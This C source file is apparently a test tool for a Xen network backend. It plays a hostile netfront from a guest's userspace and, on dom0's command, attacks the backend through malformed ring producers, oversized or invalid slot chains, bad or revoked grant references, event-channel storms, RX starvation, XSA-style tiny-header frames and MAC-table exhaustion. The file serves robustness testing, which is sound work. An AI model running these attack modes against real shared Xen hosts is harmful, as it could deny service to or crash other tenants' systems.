// xvs-guest-libs: -lxenstore -lxengnttab -lxenevtchn -lxentoollog -lxentoolcore -lpthread
/* guest-evilfront: a hostile netfront in a domU's userspace (real Xen).
 *
 *   evilfront -n DEVID -m MODE [-d DSTMAC] [-r FPS] [-p PIDFILE]
 *
 * Run in a PV guest whose vif DEVID no kernel driver serves (the test
 * guest unloads xen-netfront, then dom0 does `xl network-attach`): it
 * plays the frontend of that vif through xenstore -- waits for the backend
 * in InitWait, publishes ring refs, event channel and features as Linux
 * netfront does, switches to Connected, waits for the backend's Connected
 * -- then behaves or misbehaves as told:
 *
 *   SIGUSR1  start the attack          SIGUSR2  stop it (behave again)
 *   SIGTERM  frontend state Closed, revoke every grant, exit
 *
 * or, without a console round trip, the key xvs-evil in its frontend
 * directory (dom0 may write there): "on", "off", "quit" -- read with the
 * backend's state every EF_STATE_POLL_S.  It writes what it sent so far to
 * xvs-evil-sent when an attack stops and when it quits.
 *
 * While behaving it answers the backend (TX responses, RX buffers kept
 * posted, frames received and thrown away) and spins (no sleep), so that
 * it takes the same CPU as while attacking: the victims' throughput with
 * and without the attack differs only by what the attack does to the
 * backend.  It sends one broadcast frame from its MAC when connected, so
 * the switch learns where that MAC lives.
 *
 * Modes (the letters of issue 7):
 *   prod-jump      (a) TX req_prod published 1000 past the requests written
 *   slots:N        (b) frames of N slots (1000: the ring fills with one
 *                      frame that never ends), repeated at FPS
 *   bad-offset     (c) a slot whose offset + size runs past its page
 *   bad-gref       (d) frames whose only slot has a grant ref past any table
 *   revoked-mid    (d) 3-slot frames whose middle slot's grant was revoked
 *   storm          (e) event channel notifications, as fast as it can
 *   no-rx          (f) no RX buffers posted (those posted are used up)
 *   tiny-head      (h) frames whose headers come in 18 one-byte slots
 *                      (XSA-423/432), then 100 bytes of payload: legal
 *   random-mac     (i) legal 60-byte frames, each from a new random
 *                      (locally administered) source MAC: FDB exhaustion
 *   good               never attacks (a baseline attacker)
 *
 * Output (stdout, one line each): "evilfront: connected ...", "evilfront:
 * attack on", "evilfront: attack off: N sent", and at exit a summary
 * "evilfront: done mode=M sent=N tx_responses=.. tx_errors=.. rx_frames=..
 * backend_state=S".  Exit status 0 when it connected, 1 otherwise.
 *
 * The ring protocol is tests/sim/simfront.c (the simulated-hypervisor
 * test frontend), compiled in with the real-Xen implementation of its
 * hypervisor calls, tests/xen/xenfront-xen.c: build-images.sh builds each
 * tests/xen/guest-*.c as one static program with the libraries named on
 * the first line, so the two are included here rather than linked. */
#define SIMFRONT_NO_INFO_READER 1
#include "tests/sim/simfront.c"
#include "tests/xen/xenfront-xen.c"

#include <signal.h>
#include <time.h>

#include <xenstore.h>

#define EF_WAIT_S 30                /* for each backend state change */
#define EF_FPS_DEFAULT 2000         /* frame attacks per second */
#define EF_STATE_POLL_S 0.2         /* how often the backend state is read */
#define EF_PROD_JUMP 1000
#define EF_STATE_POLL_ITERS 100000      /* ... or after this many loop turns */
#define EF_CLOCK_JUMP_S 5.0             /* a step of the clock worth a log line */

static volatile sig_atomic_t attack_on, quit;
static void on_signal(int s)
{
    if (s == SIGUSR1)
        attack_on = 1;
    else if (s == SIGUSR2)
        attack_on = 0;
    else
        quit = 1;
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + t.tv_nsec / 1e9;
}

struct ef {
    struct xs_handle *xs;
    char fe[128], be[128];
    struct nf *nf;
    const char *mode;
    uint8_t mac[6], dst[6];
    unsigned fps;
    uint64_t sent;
    double tokens, tokens_at;
    bool jumped;
};

static char *xs_get(struct ef *e, const char *dir, const char *key)
{
    char path[256];
    unsigned len;
    snprintf(path, sizeof path, "%s/%s", dir, key);
    return xs_read(e->xs, XBT_NULL, path, &len);
}

static int xs_put(struct ef *e, const char *key, const char *val)
{
    char path[256];
    snprintf(path, sizeof path, "%s/%s", e->fe, key);
    return xs_write(e->xs, XBT_NULL, path, val, (unsigned)strlen(val)) ? 0 : -errno;
}

static void put_sent(struct ef *e)
{
    char v[32];
    snprintf(v, sizeof v, "%llu", (unsigned long long)e->sent);
    xs_put(e, "xvs-evil-sent", v);
}

/* A failed xenstore read is said once and again at every power of two:
 * an order that never arrives must leave a trace in the log. */
static void xs_failed(const char *what)
{
    static unsigned long n;
    int err = errno;
    n++;
    if (!(n & (n - 1)))
        printf("evilfront: xenstore read of %s failed (%lu so far): %s\n", what, n,
               strerror(err));
}

/* dom0's orders in the frontend directory (xvs-evil: on, off, quit) */
static void read_orders(struct ef *e)
{
    static char last[8];
    char *c = xs_get(e, e->fe, "xvs-evil");
    if (!c) {
        if (errno != ENOENT)
            xs_failed("xvs-evil");
        return;
    }
    if (strcmp(c, last)) {
        snprintf(last, sizeof last, "%s", c);
        if (!strcmp(c, "on"))
            attack_on = 1;
        else if (!strcmp(c, "off"))
            attack_on = 0;
        else if (!strcmp(c, "quit"))
            quit = 1;
    }
    free(c);
}

static int backend_state(struct ef *e)
{
    char *s = xs_get(e, e->be, "state");
    if (!s)
        xs_failed("the backend state");
    int v = s ? atoi(s) : -1;
    free(s);
    return v;
}

static int wait_backend(struct ef *e, int want)
{
    double end = now_s() + EF_WAIT_S;
    int s;
    while ((s = backend_state(e)) != want && now_s() < end && !quit)
        usleep(50000);
    return s;
}

static int parse_mac(const char *s, uint8_t m[6])
{
    unsigned v[6];
    if (!s || sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
        return -EINVAL;
    for (int i = 0; i < 6; i++)
        m[i] = (uint8_t)v[i];
    return 0;
}

/* Publish what simfront would tell a backend (nf_write_info's lines) as
 * the frontend's xenstore keys, then Connected. */
static int publish(struct ef *e, const char *info)
{
    char line[256], k[64], v[64];
    FILE *f = fopen(info, "r");
    if (!f)
        return -errno;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%63[^=]=%63s", k, v) == 2 && strcmp(k, "domid")
            && strcmp(k, "devid") && strcmp(k, "mac") && xs_put(e, k, v)) {
            fclose(f);
            return -EIO;
        }
    fclose(f);
    return xs_put(e, "state", "4");
}

static void send_hello(struct ef *e)
{
    uint8_t f[60] = { 0 };
    memset(f, 0xff, 6);
    memcpy(f + 6, e->mac, 6);
    f[12] = 0x88;                   /* local experimental ethertype */
    f[13] = 0xb5;
    nf_send(e->nf, f, sizeof f, NULL);
    nf_flush(e->nf);
}

/* One frame attack, if the pace and the ring allow. */
static void random_mac_frame(struct ef *e)
{
    uint8_t f[60] = { 0 };
    uint32_t r = (uint32_t)random();
    memcpy(f, e->dst, 6);
    f[6] = 0x02;                    /* unicast, locally administered */
    f[7] = 0x66;
    memcpy(f + 8, &r, 4);
    f[12] = 0x88;
    f[13] = 0xb5;
    if (nf_send(e->nf, f, sizeof f, NULL) == 0) {
        nf_flush(e->nf);
        e->tokens -= 1;
        e->sent++;
    }
}

static void frame_attack(struct ef *e)
{
    static struct nf_raw_slot s[NF_TX_IDS];
    uint8_t fill[64] = { 0 };
    unsigned n = 0;
    double t = now_s();

    e->tokens += (t - e->tokens_at) * e->fps;
    e->tokens_at = t;
    if (e->tokens > e->fps / 10.0 + 1)
        e->tokens = e->fps / 10.0 + 1;
    if (e->tokens < 1)
        return;
    if (!strcmp(e->mode, "random-mac")) {
        random_mac_frame(e);
        return;
    }
    memcpy(fill, e->dst, 6);
    memcpy(fill + 6, e->mac, 6);
    memset(s, 0, sizeof s);
    if (!strncmp(e->mode, "slots:", 6)) {
        unsigned k = (unsigned)atoi(e->mode + 6);
        if (k > NF_TX_IDS)
            k = NF_TX_IDS;          /* nf_send_raw stops at a full ring */
        unsigned want = (unsigned)atoi(e->mode + 6);
        s[0] = (struct nf_raw_slot){ .size = (uint16_t)(60 + want - 1),
                                     .flags = want > 1 ? NETTXF_more_data : 0 };
        for (unsigned i = 1; i < k; i++)
            s[i] = (struct nf_raw_slot){ .size = 1,
                                         .flags = i + 1 < want ? NETTXF_more_data : 0 };
        n = k;
    } else if (!strcmp(e->mode, "bad-offset")) {
        s[n++] = (struct nf_raw_slot){ .offset = 4000, .size = 200 };
    } else if (!strcmp(e->mode, "tiny-head")) {
        s[n++] = (struct nf_raw_slot){ .size = 1 + 17 + 100, .flags = NETTXF_more_data };
        for (unsigned i = 0; i < 17; i++)
            s[n++] = (struct nf_raw_slot){ .size = 1, .offset = (uint16_t)(i + 1),
                                           .flags = NETTXF_more_data };
        s[n++] = (struct nf_raw_slot){ .size = 100, .offset = 18 };
    } else if (!strcmp(e->mode, "bad-gref")) {
        s[n++] = (struct nf_raw_slot){ .gref_kind = NF_GREF_RAW, .gref = 0x0fffff00u,
                                       .size = 60 };
    } else if (!strcmp(e->mode, "revoked-mid")) {
        s[n++] = (struct nf_raw_slot){ .size = 300, .flags = NETTXF_more_data };
        s[n++] = (struct nf_raw_slot){ .gref_kind = NF_GREF_REVOKED, .size = 100,
                                       .flags = NETTXF_more_data };
        s[n++] = (struct nf_raw_slot){ .size = 100 };
    } else {
        return;
    }
    if (nf_tx_free(e->nf) < n)
        return;                     /* ring full: later */
    nf_send_raw(e->nf, s, n, fill, sizeof fill);
    nf_flush(e->nf);
    nf_kick(e->nf);
    e->tokens -= 1;
    e->sent++;
}

static void attack_step(struct ef *e)
{
    if (!strcmp(e->mode, "prod-jump")) {
        if (!e->jumped) {
            nf_jump_tx_req_prod(e->nf, EF_PROD_JUMP);
            nf_kick(e->nf);
            e->jumped = true;
            e->sent++;
        }
    } else if (!strcmp(e->mode, "storm")) {
        for (int i = 0; i < 1000; i++)
            nf_kick(e->nf);
        e->sent += 1000;
    } else if (!strcmp(e->mode, "no-rx")) {
        nf_set_rx_posting(e->nf, 0);
    } else {
        frame_attack(e);
    }
}

static void usage(void)
{
    fprintf(stderr, "usage: evilfront -n DEVID -m MODE [-d DSTMAC] [-r FPS] [-p PIDFILE]\n"
            "modes: prod-jump slots:N bad-offset bad-gref revoked-mid storm no-rx tiny-head "
            "random-mac good\n");
    exit(2);
}

int main(int argc, char **argv)
{
    static struct ef e;
    const char *devid = NULL, *pidfile = NULL;
    char err[256], info[64];
    int o;

    e.mode = "good";
    e.fps = EF_FPS_DEFAULT;
    memset(e.dst, 0xff, 6);
    while ((o = getopt(argc, argv, "n:m:d:r:p:")) != -1) {
        switch (o) {
        case 'n': devid = optarg; break;
        case 'm': e.mode = optarg; break;
        case 'd': if (parse_mac(optarg, e.dst)) usage(); break;
        case 'r': e.fps = (unsigned)atoi(optarg); break;
        case 'p': pidfile = optarg; break;
        default: usage();
        }
    }
    if (!devid || !e.fps)
        usage();
    setvbuf(stdout, NULL, _IOLBF, 0);
    srandom((unsigned)getpid());
    signal(SIGUSR1, on_signal);
    signal(SIGUSR2, on_signal);
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    if (pidfile) {
        FILE *p = fopen(pidfile, "w");
        if (p) {
            fprintf(p, "%d\n", (int)getpid());
            fclose(p);
        }
    }
    e.xs = xs_open(0);
    if (!e.xs) {
        printf("evilfront: xenstore: %s\n", strerror(errno));
        return 1;
    }
    unsigned len;
    char *dom = xs_read(e.xs, XBT_NULL, "domid", &len);
    if (!dom) {
        printf("evilfront: cannot read my domid: %s\n", strerror(errno));
        return 1;
    }
    snprintf(e.fe, sizeof e.fe, "/local/domain/%s/device/vif/%s", dom, devid);
    char *be = xs_get(&e, e.fe, "backend"), *mac = xs_get(&e, e.fe, "mac");
    if (!be || parse_mac(mac, e.mac)) {
        printf("evilfront: %s: no backend or mac key (is vif %s attached?)\n", e.fe, devid);
        return 1;
    }
    snprintf(e.be, sizeof e.be, "%s", be);
    /* Initialising, as netfront's probe does: a backend left Closed (or
     * Connected) by an earlier try on this vif offers InitWait again. */
    if (xs_put(&e, "state", "1")) {
        printf("evilfront: %s: cannot write state: %s\n", e.fe, strerror(errno));
        return 1;
    }
    printf("evilfront: %s: backend %s, waiting for InitWait\n", e.fe, e.be);
    int s = wait_backend(&e, 2);
    if (s != 2) {
        printf("evilfront: backend %s in state %d, not InitWait (2)\n", e.be, s);
        return 1;
    }
    struct nf_options opt = { .domid = (uint16_t)atoi(dom), .devid = (uint32_t)atoi(devid) };
    opt.features.rx_notify = true;
    opt.features.rx.sg = true;
    opt.features.rx.csum_v4 = true;
    printf("evilfront: granting %u pages to dom0, binding event channels\n", NF_PAGES);
    e.nf = nf_create(&opt, err, sizeof err);
    if (!e.nf) {
        printf("evilfront: %s\n", err);
        return 1;
    }
    nf_set_mac(e.nf, e.mac);
    nf_set_rx_copy(e.nf, false);
    snprintf(info, sizeof info, "/tmp/evilfront-%s.info", devid);
    if (nf_write_info(e.nf, info) || publish(&e, info)) {
        printf("evilfront: cannot publish the frontend keys in %s\n", e.fe);
        nf_destroy(e.nf);
        return 1;
    }
    printf("evilfront: keys published, Connected; waiting for the backend\n");
    s = wait_backend(&e, 4);
    if (s != 4) {
        printf("evilfront: backend %s in state %d, not Connected (4)\n", e.be, s);
        xs_put(&e, "state", "6");
        nf_destroy(e.nf);
        return 1;
    }
    send_hello(&e);
    printf("evilfront: connected %s (backend %s), mode %s\n", e.fe, e.be, e.mode);

    double next_state = 0, t0 = 0, prev_t = now_s();
    unsigned long turns = 0;
    int last = 4;
    bool was_on = false;
    while (!quit) {
        nf_poll(e.nf);
        if (attack_on && strcmp(e.mode, "good")) {
            if (!was_on) {
                printf("evilfront: attack on\n");
                was_on = true;
                t0 = now_s();
                e.tokens_at = t0;
            }
            attack_step(&e);
        } else if (was_on) {
            was_on = false;
            if (!strcmp(e.mode, "no-rx"))
                nf_set_rx_posting(e.nf, NF_RX_BUFS);
            printf("evilfront: attack off: %llu sent in %.1f s\n",
                   (unsigned long long)e.sent, now_s() - t0);
            put_sent(&e);
        }
        /* The orders are read by the clock and, should the guest's clock
         * jump (seen under TCG: the first attacker of a run stopped
         * reading them, spinning, with nothing logged), by the turn count. */
        double t = now_s();
        if (t < prev_t || t - prev_t > EF_CLOCK_JUMP_S)
            printf("evilfront: clock jumped %.3f s -> %.3f s\n", prev_t, t);
        prev_t = t;
        if (t >= next_state || next_state - t > 2 * EF_STATE_POLL_S
            || ++turns >= EF_STATE_POLL_ITERS) {
            turns = 0;
            next_state = t + EF_STATE_POLL_S;
            read_orders(&e);
            int b = backend_state(&e);
            if (b != last) {
                printf("evilfront: backend state %d -> %d\n", last, b);
                last = b;
            }
        }
    }
    const struct nf_stats *st = nf_get_stats(e.nf);
    put_sent(&e);
    xs_put(&e, "state", "6");
    printf("evilfront: done mode=%s sent=%llu tx_responses=%llu tx_errors=%llu "
           "rx_frames=%llu events=%llu backend_state=%d\n", e.mode, (unsigned long long)e.sent,
           (unsigned long long)st->tx_responses, (unsigned long long)st->tx_errors,
           (unsigned long long)st->rx_frames, (unsigned long long)st->events,
           backend_state(&e));
    nf_destroy(e.nf);
    xs_close(e.xs);
    return 0;
}
